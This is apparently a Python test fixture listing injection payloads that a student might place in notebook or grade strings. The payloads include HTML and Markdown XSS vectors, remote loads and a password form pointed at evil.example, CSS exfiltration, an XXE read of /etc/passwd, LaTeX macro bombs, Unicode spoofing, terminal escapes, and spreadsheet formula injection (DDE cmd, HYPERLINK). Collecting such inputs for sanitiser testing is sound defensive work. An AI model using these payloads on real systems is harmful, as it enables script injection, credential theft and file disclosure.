"""Payloads that a student may place in any string or in a notebook."""

from __future__ import annotations

MARKUP = {
    "script": "<script>alert(1)</script>",
    "broken script": "</script><script >alert(1)//",
    "close everything": "</code></pre></section></main></body></html><script>alert(1)</script>",
    "event handler": '<b onmouseover="alert(1)" autofocus tabindex=1 onfocus=alert(1)>x</b>',
    "image error": "<img src=x onerror=alert(1)>",
    "remote image": '<img src="https://evil.example/x.png" srcset="https://evil.example/y 2x">',
    "svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "html data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "false png": '<img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "svg script": (
        "<svg onload=alert(1)><script>alert(1)</script><a href='javascript:1'>x</a></svg>"
    ),
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=1>'>",
    "math link": (
        '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>'
    ),
    "foreign": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "template": "<template shadowrootmode=open><script>alert(1)</script></template>",
    "style element": "<style>body{display:none} a{background:url(https://evil.example/?c)}</style>",
    "style attribute": (
        '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>'
    ),
    "class": '<p class="banner rejected" id="q1">rejected</p>',
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "second policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "base": '<base href="https://evil.example/">',
    "form": (
        '<form action="https://evil.example"><input name=p type=password><button>go</button></form>'
    ),
    "iframe": '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example"></iframe>',
    "object": '<object data="https://evil.example"></object><embed src="https://evil.example">',
    "media": (
        '<video src="https://evil.example" autoplay></video><audio src=//evil.example></audio>'
    ),
    "javascript link": '<a href="jav&#x09;ascript:alert(1)" target=_blank>x</a>',
    "details": "<details open ontoggle=alert(1)>x</details>",
    "comment": (
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=1>"
    ),
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "table": '<table background="https://evil.example"><td rowspan=65000 colspan=9999>x</table>',
    "template engine": "{{ 7*7 }}{% raw %}{{ grade.__class__.__mro__ }}",
    "format": "{language} {0} {__class__} %s %(x)s",
    "quotes": '"\'`><b>"\' onload=alert(1) x="',
    "entity override": "&#x202E;gpj.exe &lrm;",
    "direction": "\u202egpj.exe\u2066\u2069\u200f",
    "terminal": (
        "\x1b]0;title\x07\x1b[31mred\x1b[0m\x1b]8;;https://ev"
        "il.example\x1b\\link\x1b]8;;\x1b\\\x1b[2J\x9b31m\b\b"
    ),
    "surrogate": "\ud800\udfff x",
    "zalgo": "a" + "\u0301" * 500,
    "path": "../../../etc/passwd\"'/con.ipynb",
}

MARKDOWN = {
    "link": "[x](javascript:alert(1)) [y](<javascript:alert(1)>) <javascript:alert(1)>",
    "link entities": "[x](&#106;avascript:alert(1)) [y](jav&Tab;ascript:alert(1))",
    "data link": "[x](data:text/html,<script>alert(1)</script>)",
    "reference": '[x][a]\n\n[a]: javascript:alert(1) "title\\" onload=alert(1)"',
    "title": '[x](https://evil.example "a\\" onmouseover=alert(1) b=\\"")',
    "image": '![x](https://evil.example/x.png "t") ![y](data:image/svg+xml;base64,PHN2Zz4=)',
    "image alt": '![x" onerror="alert(1)](https://evil.example)',
    "formula in attribute": '<img alt="$x$" src="$x$"> ![$\\frac{1}{2}$](x) <b title="$$x$$">y</b>',
    "formula script": (
        "$\\text{<script>alert(1)</script>}$ $$\\mathrm{<img src=x onerror=alert(1)>}$$"
    ),
    "formula link": "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
    "formula style": "$\\style{position:fixed}{x}$ $\\class{banner}{x}$ $\\color{red}{x}$",
    "formula size": "$\\hspace{99999em}x$ $\\rule{9999em}{9999em}$ $\\phantom{x}$",
    "formula macro": (
        "$\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}\\a$ $\\def\\x{\\x\\x}\\x$"
    ),
    "formula entity": "$&lt;script&gt;$ $&#x202e;x$ $\\unicode{x202e}$",
    "fence": "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "fence info": '```"><script>alert(1)</script>\nx\n```',
    "heading": '# <script>alert(1)</script> {#q1 onclick="alert(1)"}',
    "table": "| <script>alert(1)</script> | b |\n|:--|--|\n| <img src=x onerror=1> | $a|b$ |",
    "autolink": '<https://evil.example/"onmouseover="alert(1)>',
    "split tag": "<img src=x\n\nonerror=alert(1)>\n\n<scr<script>ipt>alert(1)</script>",
    "footnote": "[^1]\n\n[^1]: <script>alert(1)</script>",
}

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil")',
    "＝1+1",
    "＋1",
    "－1+cmd",
    "＠x",
    "a;=1+1",
    'a,"=1+1',
    'x";=1+1',
    "a\t=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "-1e9+cmd",
    "+84 912 cmd",
)
